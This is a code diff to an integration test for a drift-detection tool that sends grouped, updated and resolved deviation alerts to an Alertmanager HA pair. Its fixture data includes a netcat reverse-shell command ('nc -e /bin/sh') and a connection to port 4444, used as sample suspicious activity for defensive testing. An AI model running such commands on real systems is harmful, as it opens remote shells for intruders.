@@ -1,7 +1,8 @@
 /**
  * Against the real Alertmanager (Debian `prometheus-alertmanager`, two instances as an HA pair):
  * deviations driven through a real bus and the alerting component are read back from
- * Alertmanager's own API with their labels and annotations; resolving ends them there.
+ * Alertmanager's own API with their labels and annotations; an update (a member joining a group)
+ * is the same alert there with its annotations updated; resolving ends them there.
  */
 import t from 'tap';
 import { join } from 'node:path';
@@ -20,39 +21,50 @@ t.test('real Alertmanager HA pair: labels, annotations, resolution', { skip: ins
   t.teardown(() => alerting.close());
   await alerting.start();
 
+  // Critical: sent at once as its workload's group, which a later deviation joins as an update.
   const d = deviation({ severity: 'critical', firstSeenMs: Date.now() - 60_000, summary: 'new process /usr/bin/nc -e /bin/sh <evil> in payments/api', pods: ['api-5d9c7-abcde', 'api-5d9c7-fghij'] });
   bus.emit({ type: 'deviation.created', deviation: d });
+  const ours = (a: AmAlert): boolean => a.labels.alertname === 'DriftwatchDeviationGroup' && a.labels.workload === 'api';
 
+  let labels: Record<string, string> | undefined;
   for (const am of ams) {
     let got: AmAlert | undefined;
-    await poll(async () => (got = (await alerts(am.url)).find((a) => a.labels.deviation_id === String(d.id))) !== undefined);
-    t.same(got!.labels, {
-      alertname: 'DriftwatchDeviation',
+    await poll(async () => (got = (await alerts(am.url)).find(ours)) !== undefined);
+    t.match(got!.labels, {
+      alertname: 'DriftwatchDeviationGroup',
       severity: 'critical',
       cluster: 'test',
       namespace: 'payments',
       workload: 'api',
       workload_kind: 'Deployment',
       container: 'app',
-      deviation_kind: 'process',
-      deviation_id: String(d.id),
+      deviation_group: String(d.firstSeenMs),
     }, `${am.url}: labels`);
-    t.equal(got!.annotations.summary, d.summary, 'summary annotation, text intact');
-    t.match(got!.annotations.description, /pods: api-5d9c7-abcde, api-5d9c7-fghij/);
-    t.match(got!.annotations.description, /lineage: /);
-    t.match(got!.annotations.description, /first seen: /);
-    t.equal(got!.annotations.url, `https://driftwatch.example/ui/deviations/${d.id}`);
-    t.equal(got!.generatorURL, `https://driftwatch.example/ui/deviations/${d.id}`);
+    labels ??= got!.labels;
+    t.equal(got!.annotations.summary, d.summary, 'summary annotation: the one member, text intact');
+    t.match(got!.annotations.description, /\[critical\] new process \/usr\/bin\/nc -e \/bin\/sh <evil>/);
+    t.equal(got!.annotations.sequence, '1');
+    t.match(got!.annotations.url, /^https:\/\/driftwatch\.example\/ui\//);
     t.equal(Date.parse(got!.startsAt), d.firstSeenMs, 'startsAt = first seen');
     t.ok(Date.parse(got!.endsAt) > Date.now(), 'still firing for a while without a re-post');
     t.equal(got!.status.state, 'active');
   }
 
-  bus.emit({ type: 'deviation.status', deviation: withStatus(d, 'added-to-baseline'), previous: 'open', actor: 'alice' });
+  const later = deviation({ severity: 'medium', firstSeenMs: d.firstSeenMs + 2000, summary: 'new connection to 198.51.100.66:4444 in payments/api' });
+  bus.emit({ type: 'deviation.created', deviation: later });
+  for (const am of ams) {
+    await poll(async () => (await alerts(am.url)).some((a) => ours(a) && a.annotations.description.includes('198.51.100.66:4444')));
+    const mine = (await alerts(am.url)).filter(ours);
+    t.equal(mine.length, 1, `${am.url}: the update is the same alert …`);
+    t.same(mine[0]!.labels, labels, '… with the same labels');
+    t.equal(mine[0]!.annotations.sequence, '2', '… and its annotations updated');
+  }
+
+  for (const x of [d, later]) bus.emit({ type: 'deviation.status', deviation: withStatus(x, 'added-to-baseline'), previous: 'open', actor: 'alice' });
   for (const am of ams) {
     // Alertmanager drops resolved alerts from its list, or shows them with endsAt in the past.
     await poll(async () => {
-      const a = (await alerts(am.url)).find((x) => x.labels.deviation_id === String(d.id));
+      const a = (await alerts(am.url)).find(ours);
       return !a || Date.parse(a.endsAt) <= Date.now();
     });
     t.pass(`${am.url}: the alert ended`);
